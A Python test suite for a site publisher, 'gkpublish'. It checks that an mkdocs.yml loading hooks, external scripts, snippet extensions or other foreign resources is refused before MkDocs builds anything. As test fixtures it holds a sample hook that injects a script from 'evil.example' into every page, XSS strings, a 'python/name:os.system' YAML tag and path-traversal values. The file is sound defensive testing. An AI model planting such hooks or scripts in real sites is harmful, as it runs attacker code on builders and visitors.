"""mkdocs.yml is site rules (issue 8, class 4): it may not load code or foreign resources.

A hook is Python that every build runs; an external script lands on every page; an
extension such as ``pymdownx.snippets`` reads any file into a page. ``gkpublish check``
reports such a mkdocs.yml (GK120), ``gkpublish build``/``serve`` refuse it (exit 2) before
MkDocs reads it, the plugin refuses it for plain ``mkdocs build``, and its bytes are under
GK308 like site_config/.
"""

from __future__ import annotations

import shutil

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gkpublish.site.build import DEFAULT_CONFIG
from gkpublish.site.mkdocs_config import mkdocs_problems
from tests.conftest import BASE_CONFIG, PROJECT, Site
from tests.test_site_build import add_site_files, build_into, demo_like_site

HOOK = """\
import pathlib
pathlib.Path(__file__).with_name("HOOK-RAN").write_text("hook ran at import")

def on_page_content(html, **kw):
    pathlib.Path(__file__).with_name("HOOK-RAN").write_text("hook ran on a page")
    return html + '<script src="https://evil.example/x.js"></script>'
"""


def with_mkdocs(site: Site, text: str, hook: bool = True) -> None:
    """Write mkdocs.yml (and the marker-writing hook it may name), then sign everything."""
    add_site_files(site)
    (site.root / "mkdocs.yml").write_text(text, encoding="utf-8")
    if hook:
        (site.root / "evil_hook.py").write_text(HOOK, encoding="utf-8")
    site.item("gzdt/a.md", drafter="zhang-jb")
    site.sign_all()  # the configuration (mkdocs.yml included) is signed: only GK120 stands


def gk120(site: Site) -> list[str]:
    return [f"{f.line}:{f.message}" for f in site.check().of("GK120")]


# -- the samples of the issue ----------------------------------------------------------------

def test_a_hook_is_refused_before_it_can_run(tmp_path):
    site = Site(tmp_path / "repo")
    with_mkdocs(site, DEFAULT_CONFIG + "hooks:\n  - evil_hook.py\n")
    assert any("hooks" in m for m in gk120(site))  # gkpublish check: the same refusal, as a finding
    rc, _, stderr = build_into(site, tmp_path / "out")
    assert rc == 2 and "hooks" in stderr and "执行其中的 Python 代码" in stderr
    assert not (site.root / "HOOK-RAN").exists()  # refused before MkDocs imported it
    assert not (tmp_path / "out").exists()


def test_an_external_script_is_refused(tmp_path):
    site = Site(tmp_path / "repo")
    with_mkdocs(site, DEFAULT_CONFIG + "extra_javascript:\n  - https://evil.example/x.js\n", hook=False)
    [msg] = gk120(site)
    assert msg.startswith(f"{len(DEFAULT_CONFIG.splitlines()) + 1}:") and "https://evil.example/x.js" in msg
    rc, _, stderr = build_into(site, tmp_path / "out")
    assert rc == 2 and "extra_javascript" in stderr


def test_the_theme_own_script_may_be_listed(tmp_path):
    site = Site(tmp_path / "repo")
    with_mkdocs(site, DEFAULT_CONFIG + "extra_javascript:\n  - assets/gkpublish/gkpublish.js\n", hook=False)
    assert gk120(site) == []


def test_the_default_mkdocs_yml_passes(site):
    add_site_files(site)
    assert site.check().of("GK120") == []


@pytest.mark.parametrize("fragment, key", [
    ("markdown_extensions:\n  - pymdownx.snippets\n", "markdown_extensions"),
    ("plugins:\n  - gkpublish\n  - search\n", "plugins"),
    ("INHERIT: base.yml\n", "INHERIT"),
    ("site_url: !ENV [SITE_URL, 'https://example.gov.cn/']\n", "site_url"),
    ("extra:\n  analytics:\n    provider: google\n    property: G-XXXX\n", "extra"),
    ("nav:\n  - 外部: https://evil.example/\n", "nav"),
    ("copyright: '<script>alert(1)</script>'\n", "copyright"),
    ("use_directory_urls: false\n", "use_directory_urls"),
    ("site_dir: content\n", "site_dir"),
    ("site_dir: approvals/x\n", "site_dir"),
    ("docs_dir: site_config\n", "docs_dir"),
    ("extra_css:\n  - //evil.example/x.css\n", "extra_css"),
    ("repo_url: https://github.com/example/site\n", "repo_url"),
    ("site_url: https://evil.example/\n", "site_url"),
])
def test_keys_that_load_code_or_foreign_resources_are_refused(fragment, key):
    text = _replace_top_level(DEFAULT_CONFIG, fragment)
    problems = mkdocs_problems(text, {}, "/srv/site")
    assert [p for p in problems if p.key == key], problems


def test_site_url_only_repeats_the_site_yml_url():
    text = DEFAULT_CONFIG + "site_url: https://example.gov.cn/\n"
    assert mkdocs_problems(text, {"url": "https://example.gov.cn"}, "/srv/site") == []
    [p] = mkdocs_problems(text, {"url": "https://other.gov.cn/"}, "/srv/site")
    assert p.key == "site_url" and "site.yml" in p.message


def test_theme_keys_are_an_allow_list():
    for fragment, key in [("  custom_dir: ../outside\n", "theme.custom_dir"),
                          ("  custom_dir: overrides\n", "theme.custom_dir"),
                          ("  static_templates: [x.html]\n", "theme.static_templates")]:
        text = DEFAULT_CONFIG.replace("  language: zh\n", "  language: zh\n" + fragment)
        assert [p.key for p in mkdocs_problems(text, {}, "/srv/site")] == [key]
    text = DEFAULT_CONFIG.replace("  font: false ", "  font:\n    text: Roboto\n  #")
    assert [p.key for p in mkdocs_problems(text, {}, "/srv/site")] == ["theme.font"]
    text = DEFAULT_CONFIG.replace("  name: material", "  name: mkdocs")
    assert [p.key for p in mkdocs_problems(text, {}, "/srv/site")] == ["theme"]


def test_signed_site_rules_allow_by_name():
    text = (DEFAULT_CONFIG.replace("  - gkpublish ", "  - gkpublish\n  - search #")
            .replace("  - admonition", "  - admonition\n  - pymdownx.highlight")
            .replace("  language: zh\n", "  language: zh\n  custom_dir: site_config/overrides\n")
            + "extra:\n  homepage: https://example.gov.cn/\n")
    assert {p.key for p in mkdocs_problems(text, {}, "/srv/site")} == {
        "plugins", "markdown_extensions", "theme.custom_dir", "extra"}
    allow = {"mkdocs": {"allow": {"plugins": ["search"], "markdown_extensions": ["pymdownx.highlight"],
                                  "custom_dir": "site_config/overrides", "extra": ["homepage"]}}}
    assert mkdocs_problems(text, allow, "/srv/site") == []
    # hooks and custom_dir outside site_config/ cannot be allowed at all
    bad = {"mkdocs": {"allow": {"hooks": ["evil_hook.py"], "custom_dir": "overrides"}}}
    text = DEFAULT_CONFIG.replace("  language: zh\n", "  language: zh\n  custom_dir: overrides\n")
    assert {p.key for p in mkdocs_problems(text + "hooks: [evil_hook.py]\n", bad, "/srv/site")} == {
        "mkdocs.allow", "theme.custom_dir", "hooks"}


def test_duplicate_keys_and_deep_nesting_are_refused_with_their_line():
    [p] = mkdocs_problems(DEFAULT_CONFIG + "site_name: 另一个名称\n", {}, "/srv/site")
    assert p.key == "site_name" and p.line == len(DEFAULT_CONFIG.splitlines()) + 1 and "键重复" in p.message
    [p] = mkdocs_problems(DEFAULT_CONFIG + "validation:\n  x: " + "[" * 30000 + "]" * 30000 + "\n", {}, "/srv/site")
    assert "嵌套超过" in p.message


def test_a_change_of_mkdocs_yml_needs_the_principal_leader(tmp_path):
    site = Site(tmp_path / "repo")
    with_mkdocs(site, DEFAULT_CONFIG, hook=False)
    assert "GK308" not in site.check().ids
    (site.root / "mkdocs.yml").write_text(DEFAULT_CONFIG.replace("政务公开            #", "政务公开站 #"), "utf-8")
    r = site.check()
    assert "GK308" in r.ids and "GK120" not in r.ids  # an inert change, but still site rules


def test_mkdocs_yml_is_compared_with_the_trusted_revision(repo_site):
    from tests.test_trust import commit_all, git

    site = repo_site
    add_site_files(site)
    site.sign_config()
    commit_all(site.root, "mkdocs.yml")
    assert "GK308" not in site.check(trust_ref="main").ids
    git(site.root, "checkout", "-q", "-b", "pr")
    (site.root / "mkdocs.yml").write_text(DEFAULT_CONFIG + "strict: true\n", "utf-8")
    site.sign_config()  # a 主要领导 of the working tree … is the trusted one here: passes
    commit_all(site.root, "strict")
    r = site.check(trust_ref="main")
    assert "GK308" not in r.ids
    (site.root / "mkdocs.yml").write_text(DEFAULT_CONFIG + "strict: false\n", "utf-8")
    r = site.check(trust_ref="main")
    assert [f for f in r.of("GK308") if "mkdocs.yml" in f.message]


@pytest.fixture
def repo_site(site):
    from tests.test_trust import commit_all, git

    site.item("gzdt/a.md", drafter="zhang-jb")
    site.sign_all()
    git(site.root, "init", "-q", "-b", "main")
    commit_all(site.root, "初始站点")
    return site


def test_plain_mkdocs_build_refuses_a_hook_before_mkdocs_imports_it(tmp_path):
    """MkDocs instantiates plugins before it imports hooks: the gkpublish plugin refuses
    while MkDocs validates ``plugins``, so the hook module never runs."""
    from mkdocs.config import load_config
    from mkdocs.exceptions import Abort

    site = Site(tmp_path / "repo")
    with_mkdocs(site, DEFAULT_CONFIG + "hooks:\n  - evil_hook.py\n")
    with pytest.raises(Abort):
        load_config(config_file=str(site.root / "mkdocs.yml"), site_dir=str(tmp_path / "out"))
    assert not (site.root / "HOOK-RAN").exists()
    assert not (tmp_path / "out").exists()


def test_plain_mkdocs_build_refuses_what_the_loaded_config_holds(tmp_path):
    """The second line of defence, in on_config: what MkDocs really loaded (here a plugin
    slipped in after the file was checked)."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config
    from mkdocs.exceptions import Abort

    site = Site(tmp_path / "repo")
    with_mkdocs(site, DEFAULT_CONFIG, hook=False)
    cfg = load_config(config_file=str(site.root / "mkdocs.yml"), site_dir=str(tmp_path / "out"))
    cfg.plugins["gkpublish"].config.as_of = "2026-11-23"
    cfg.plugins["evil"] = type(cfg.plugins["gkpublish"])()  # stands for any foreign plugin
    cfg.plugins.on_startup(command="build", dirty=False)
    with pytest.raises(Abort):
        build(cfg)
    cfg.plugins.on_shutdown()
    assert not (tmp_path / "out").exists()


def test_mkdocs_yaml_is_site_rules_too(site):
    """Plain mkdocs falls back to mkdocs.yaml: it is checked and protected like mkdocs.yml."""
    (site.root / "mkdocs.yaml").write_text(DEFAULT_CONFIG + "hooks:\n  - evil_hook.py\n", "utf-8")
    r = site.check()
    assert [f for f in r.of("GK120") if f.path == "mkdocs.yaml" and "hooks" in f.message]
    assert "mkdocs.yaml" in site.load().config.files  # part of the bytes GK308 protects


def test_gkpublish_serve_refuses_a_hook(tmp_path):
    site = Site(tmp_path / "repo")
    with_mkdocs(site, DEFAULT_CONFIG + "hooks:\n  - evil_hook.py\n")
    rc, _, stderr = site.cli("serve")
    assert rc == 2 and "hooks" in stderr and not (site.root / "HOOK-RAN").exists()


# -- the property: generated mkdocs.yml variants ---------------------------------------------

DANGEROUS = {
    "hooks": st.just(["evil_hook.py"]),
    "INHERIT": st.sampled_from(["base.yml", "../other/mkdocs.yml"]),
    "plugins": st.lists(st.sampled_from(["search", "material/search", "offline", "evil_hook.py",
                                         {"macros": {"module_name": "evil_hook"}}]), min_size=1, max_size=3)
                 .map(lambda extra: ["gkpublish", *extra]),
    "markdown_extensions": st.lists(st.sampled_from(
        ["pymdownx.snippets", {"pymdownx.snippets": {"base_path": ["/"]}}, "pymdownx.b64", "codehilite",
         "markdown.extensions.codehilite", "pymdownx.arithmatex", "Tables", "evil_hook"]), min_size=1, max_size=3)
        .map(lambda extra: ["tables", *extra]),
    "extra_javascript": st.lists(st.sampled_from(
        ["https://evil.example/x.js", "//evil.example/x.js", "HTTPS://EVIL.EXAMPLE/x.js", " https://evil.example/x.js",
         "javascripts/local.js", "../evil.js", "/evil.js", "data:text/javascript,alert(1)",
         {"path": "https://evil.example/m.js", "type": "module"}, "assets/gkpublish/../../evil.js"]),
        min_size=1, max_size=3),
    "extra_css": st.lists(st.sampled_from(["https://evil.example/x.css", "//evil.example/x.css", "local.css"]),
                          min_size=1, max_size=2),
    "extra": st.sampled_from([{"analytics": {"provider": "google", "property": "G-X"}},
                              {"social": [{"icon": "x", "link": "https://evil.example/"}]},
                              {"generator": False}, {"gk_site": {"title": "x"}}]),
    "site_dir": st.sampled_from(["content", "approvals", "site_config/x", "records", "schema", ".git", ".", "..",
                                 "content/../content", "./approvals"]),
    "docs_dir": st.sampled_from(["content", "site_config", ".", "..", "approvals"]),
    "nav": st.just([{"外部": "https://evil.example/"}]),
    "copyright": st.just('<script src="https://evil.example/x.js"></script>'),
    "repo_url": st.just("https://evil.example/repo"),
    "theme_custom_dir": st.sampled_from(["overrides", "../outside", "/tmp", "site_config/../overrides"]),
    "theme_font": st.sampled_from([{"text": "Roboto"}, True, "Roboto"]),
    "theme_name": st.sampled_from(["mkdocs", "readthedocs", "Material"]),
    "use_directory_urls": st.just(False),
    "site_url": st.sampled_from(["https://evil.example/", "http://example.gov.cn.evil.example/"]),
    "tag": st.sampled_from(["site_url: !ENV [SITE_URL, 'https://evil.example/']\n",
                            "site_description: !relative $config_dir\n",
                            "site_author: !!python/name:os.system\n"]),
    "unknown": st.sampled_from(["extra_templates: [x.html]\n", "Hooks: [evil_hook.py]\n", "hooks : [evil_hook.py]\n"]),
    "duplicate": st.just("plugins:\n  - gkpublish\nplugins:\n  - gkpublish\n  - search\n"),
}
SAFE = {
    "plugins": st.just(["gkpublish"]),
    "markdown_extensions": st.lists(st.sampled_from(["tables", "toc", "attr_list", "admonition", "md_in_html",
                                                     "markdown.extensions.tables", "pymdownx.details"]),
                                    max_size=4, unique=True),
    "extra_javascript": st.lists(st.just("assets/gkpublish/gkpublish.js"), max_size=1),
    "extra_css": st.lists(st.just("assets/gkpublish/gkpublish.css"), max_size=1),
    "site_dir": st.just("site"),
    "strict": st.booleans(),
}
TEXT_KEYS = ("tag", "unknown", "duplicate")


@st.composite
def mkdocs_variants(draw) -> tuple[str, bool]:
    """(mkdocs.yml text, whether it holds at least one dangerous fragment)."""
    data: dict = yaml.safe_load(DEFAULT_CONFIG)
    danger = draw(st.lists(st.sampled_from(sorted(DANGEROUS)), max_size=3, unique=True))
    for key in draw(st.lists(st.sampled_from(sorted(SAFE)), max_size=4, unique=True)):
        data[key] = draw(SAFE[key])
    tail = ""
    for key in danger:
        value = draw(DANGEROUS[key])
        if key in TEXT_KEYS:
            data.pop("plugins", None) if key == "duplicate" else None
            tail += value
        elif key.startswith("theme_"):
            data["theme"][key[len("theme_"):]] = value
        else:
            data[key] = value
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + tail, bool(danger)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(variant=mkdocs_variants())
def test_every_generated_mkdocs_yml_is_refused_or_loads_nothing_foreign(variant, tmp_path):
    """For every variant: refused (exactly when it holds a dangerous fragment), or MkDocs,
    loading it, imports no hook and names no plugin, script or style from outside gkpublish."""
    from mkdocs.config import load_config

    text, dangerous = variant
    root = tmp_path / "variant"
    if not root.exists():  # one repository for all examples: only mkdocs.yml changes
        shutil.copytree(BASE_CONFIG, root / "site_config")
        (root / "evil_hook.py").write_text(HOOK, "utf-8")
        (root / "site_pages").mkdir()
    (root / "HOOK-RAN").unlink(missing_ok=True)
    (root / "mkdocs.yml").write_text(text, "utf-8")
    problems = mkdocs_problems(text, {}, str(root))
    assert bool(problems) == dangerous, (text, problems)
    if problems:  # plain MkDocs, loading it, stops before any hook is imported
        with pytest.raises(Exception):  # noqa: B017 - MkDocs' Abort, or its YAML/INHERIT errors
            load_config(config_file=str(root / "mkdocs.yml"))
        assert not (root / "HOOK-RAN").exists()
        return
    cfg = load_config(config_file=str(root / "mkdocs.yml"))
    assert not (root / "HOOK-RAN").exists()
    assert list(cfg.plugins) == ["gkpublish"]
    for entry in [*cfg.extra_javascript, *cfg.extra_css]:
        assert str(entry).startswith("assets/gkpublish/")


def test_accepted_variants_build_sites_without_foreign_urls(tmp_path):
    """Generated variants the check accepts, built for real (a batch of a few, once each):
    no hook ran, no script or style from another domain on any page."""
    import re

    accepted: list[str] = []

    @settings(max_examples=40, deadline=None, database=None)
    @given(variant=mkdocs_variants())
    def collect(variant):
        if not mkdocs_problems(variant[0], {}, str(tmp_path)) and variant[0] not in accepted:
            accepted.append(variant[0])

    collect()
    site = demo_like_site(tmp_path / "repo")
    (site.root / "evil_hook.py").write_text(HOOK, "utf-8")
    for n, text in enumerate(sorted(accepted, key=len)[-2:]):  # the richest two
        (site.root / "mkdocs.yml").write_text(text, "utf-8")
        site.sign_config()
        out = tmp_path / f"out{n}"
        rc, stdout, stderr = build_into(site, out)
        assert rc == 0, text + stdout + stderr
        assert not (site.root / "HOOK-RAN").exists()
        for page in out.rglob("*.html"):
            html = page.read_text("utf-8")
            for m in re.finditer(r"<(?:script|link)\b[^>]*(?:src|href)=\"([^\"]+)\"", html):
                url = m.group(1)
                own = re.match(r"https://example\.gov\.cn/", url)  # the site's own url (canonical)
                assert own or not re.match(r"(?i)\s*(?:[a-z]+:)?//", url), (page, m.group(0))


def _replace_top_level(text: str, fragment: str) -> str:
    """DEFAULT_CONFIG with the top-level key of ``fragment`` replaced (or added)."""
    key = fragment.split(":", 1)[0]
    data_lines = text.splitlines(keepends=True)
    out, skip = [], False
    for line in data_lines:
        if line.startswith(key + ":"):
            skip = True
            continue
        if skip and (line.startswith(" ") or line.startswith("-")):
            continue
        skip = False
        out.append(line)
    return "".join(out) + fragment


def test_project_mkdocs_yml_is_clean():
    text = (PROJECT / "mkdocs.yml").read_text("utf-8")
    site = yaml.safe_load((PROJECT / "site_config/site.yml").read_text("utf-8"))
    assert mkdocs_problems(text, site, str(PROJECT)) == []
